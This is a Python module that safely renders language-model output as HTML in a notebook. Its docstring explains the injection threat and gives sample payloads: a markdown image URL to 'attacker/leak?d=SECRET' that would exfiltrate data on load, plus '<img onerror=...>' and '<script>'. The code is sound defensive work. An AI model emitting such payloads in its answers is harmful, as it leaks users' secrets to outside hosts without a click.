"""Model text as HTML: CommonMark (plus tables and strikethrough) that cannot run or fetch.

Model text is untrusted (a prompt can inject anything into an answer), yet it lands in a trusted
output area, saved with the notebook. So:

- raw HTML is escaped, never passed through (``html: False``): ``<img onerror=...>`` and
  ``<script>`` show as text;
- ``javascript:``, ``vbscript:``, ``file:`` and non-image ``data:`` links stay text (markdown-it's
  link validation);
- an image whose source is a URL (``![](https://attacker/leak?d=SECRET)``) is shown as a link
  to it, not loaded: loading it would send whatever the model put into the URL to that host,
  with no click, whenever the notebook is opened. ``allow_remote_images`` loads them.
  ``data:image/...`` images hold their bytes and fetch nothing: they stay inline.
"""

from __future__ import annotations

import functools

from markdown_it.common.utils import escapeHtml

INLINE_IMAGE_PREFIX = "data:image/"


def render_markdown(text: str, allow_remote_images: bool = False) -> str:
    """``text`` as HTML (see the module docstring)."""
    return _renderer(allow_remote_images)(text)


@functools.cache
def _renderer(allow_remote_images: bool):
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    if not allow_remote_images:
        md.add_render_rule("image", _image_without_fetch)
    return md.render


def _image_without_fetch(renderer, tokens, idx, options, env) -> str:
    """An inline ``data:image`` as an image; any other source as a link labelled with the alt
    text (or the URL), so nothing is fetched until the reader clicks."""
    token = tokens[idx]
    src = token.attrGet("src") or ""
    if str(src).startswith(INLINE_IMAGE_PREFIX):
        return renderer.image(tokens, idx, options, env)
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    label = f"image: {alt}" if alt else f"image: {src}"
    return f'<a class="vllm-mlx-image-link" href="{escapeHtml(str(src))}">{escapeHtml(label)}</a>'
